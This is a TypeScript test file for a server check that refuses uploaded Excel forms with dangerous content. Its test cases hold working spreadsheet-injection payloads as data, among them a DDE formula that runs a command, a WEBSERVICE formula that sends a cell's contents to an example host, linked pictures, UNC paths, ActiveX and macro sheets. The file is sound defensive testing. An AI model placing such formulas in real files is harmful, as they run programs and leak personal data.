import { describe, expect, test } from "vitest";
import { type FormDanger, findDanger } from "#app/domain/provider-forms/silent-form.server.ts";
import { plainForm, uglyForm } from "#tests/support/forms.ts";
import { buildWorkbook, sheetXml, type WorkbookSource } from "#tests/support/xlsx.ts";
import type { ZipPart } from "#tests/support/zip.ts";

const head = sheetXml([["Họ và tên", "Số CCCD"]]);
const cell = (content: string) => `<row r="9"><c r="A9">${content}</c></row></sheetData>`;
/** @param formula as the XML of the sheet has it */
const formulaXml = (formula: string) => head.replace("</sheetData>", cell(`<f>${formula}</f><v>1</v>`));
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const part = (name: string, data: ZipPart["data"] = "<a/>"): WorkbookSource => ({ parts: [{ name, data }] });
/** The relationships of a picture's part, one of them as told. */
const relation = (kind: string, target: string, mode = ' TargetMode="External"'): WorkbookSource =>
  part(
    "xl/drawings/_rels/drawing1.xml.rels",
    `<Relationships><Relationship Id="rId1" Type="${office}/image" Target="../media/image1.png"/>` +
      `<Relationship Id="rId2" Type="${office}/${kind}" Target="${target}"${mode}/></Relationships>`,
  );

const refused: [what: string, danger: FormDanger, source: WorkbookSource][] = [
  ["links to other files", "externalLinks", part("xl/externalLinks/externalLink1.xml")],
  ["a link to another file under another name", "externalLinks", relation("externalLink", "a.xml", "")],
  ["a data connection", "reachesOut", part("xl/connections.xml")],
  ["an add-in", "reachesOut", part("xl/webextensions/taskpanes.xml")],
  ["a picture of a cell that is fetched", "reachesOut", part("xl/richData/rdRichValueWebImage.xml")],
  ["a linked picture", "linkedParts", relation("image", "https://vi-du.vn/a.png")],
  ["a linked picture on another machine", "linkedParts", relation("image", "\\\\may-chu\\a.png", "")],
  ["a linked picture in other letters", "linkedParts", relation("IMAGE", "a.png", ' TargetMode="external"')],
  [
    "a picture that takes the way of a link",
    "linkedParts",
    part("xl/drawings/drawing1.xml", '<wsDr xmlns:r="r"><blip r:link="rId1"/></wsDr>'),
  ],
  [
    "a picture in a header with an address",
    "linkedParts",
    part("xl/drawings/vmlDrawing1.vml", '<xml xmlns:v="v"><v:imagedata src="https://vi-du.vn/a.png"/></xml>'),
  ],
  ["ActiveX", "embeddedParts", part("xl/activeX/activeX1.bin", "\0")],
  ["a form control", "embeddedParts", part("xl/ctrlProps/ctrlProp1.xml")],
  ["an embedded file", "embeddedParts", part("xl/embeddings/oleObject1.bin", "\0")],
  ["an embedded file under another name", "embeddedParts", relation("oleObject", "../media/a.png", "")],
  ["a sheet of old macros", "embeddedParts", part("xl/macrosheets/sheet1.xml")],
  [
    "a formula in a part that is called a picture",
    "reachesOut",
    part("xl/media/image1.png", `<worksheet>${formulaXml("WEBSERVICE(A1)")}</worksheet>`),
  ],
  [
    "a formula in a name",
    "reachesOut",
    { afterSheets: '<definedNames><definedName name="a">WEBSERVICE("x")</definedName></definedNames>' },
  ],
  ...[
    "_xlfn.WEBSERVICE(&quot;https://vi-du.vn/?&quot;&amp;A2)",
    "&#87;ebservice(A1)",
    "'a&quot;'!A1&amp;WEBSERVICE(&quot;x&quot;)",
    "_xlfn.IMAGE(A1)",
    "RTD(&quot;a.b&quot;,,A1)",
    "cmd|'/c calc'!A0",
    "a|b|c!A0",
    "[1]Sheet1!A1",
    "'[1]Danh sách'!A1",
  ].map((formula): [string, FormDanger, WorkbookSource] => [
    `the formula ${formula}`,
    "reachesOut",
    { sheet: formulaXml(formula) },
  ]),
];

const kept: [what: string, source: WorkbookSource][] = [
  ["a link to press", relation("hyperlink", "https://vi-du.vn/")],
  ["a picture of its own", part("xl/media/image1.png", "\x89PNG")],
  ["a drawing that is not well-formed", part("xl/drawings/vmlDrawing1.vml", "<xml><br></xml>")],
  ["a picture with a DOCTYPE", part("xl/media/image1.svg", "<!DOCTYPE svg><svg/>")],
  ["settings of a printer", part("xl/printerSettings/printerSettings1.bin", "\0\0\0<")],
  ["what another program keeps", part("customXml/item1.xml", Buffer.from("\uFEFF<a/>", "utf16le"))],
  ...["COUNTA(B2:B9)", "HYPERLINK(A1,&quot;WEBSERVICE(1)|!&quot;)", "SUM(Bang1[1])", "A1|B1"].map(
    (formula): [string, WorkbookSource] => [`the formula ${formula}`, { sheet: formulaXml(formula) }],
  ),
];

describe("a form", () => {
  test.each(refused)("with %s is refused", async (_, danger, source) => {
    expect(await findDanger(buildWorkbook({ sheet: head, ...source }))).toBe(danger);
  });

  test.each(kept)("with %s stays silent", async (_, source) => {
    expect(await findDanger(buildWorkbook({ sheet: head, ...source }))).toBeNull();
  });

  test("of the fixtures stays silent", async () => {
    for (const form of [plainForm, uglyForm]) expect(await findDanger(form)).toBeNull();
  });

  test("with a formula longer than Excel takes is refused before its formula is looked at", async () => {
    const name = (text: string) => `<definedNames><definedName name="a">${text}</definedName></definedNames>`;
    const tooLong = expect.objectContaining({ problem: "formulaTooLong" });
    for (const source of [
      { sheet: formulaXml("a|".repeat(4_097)) },
      { afterSheets: name("a|".repeat(4_097)) },
    ])
      await expect(findDanger(buildWorkbook(source))).rejects.toEqual(tooLong);
    expect(await findDanger(buildWorkbook({ sheet: formulaXml("a|".repeat(4_096)) }))).toBeNull();
  });
});
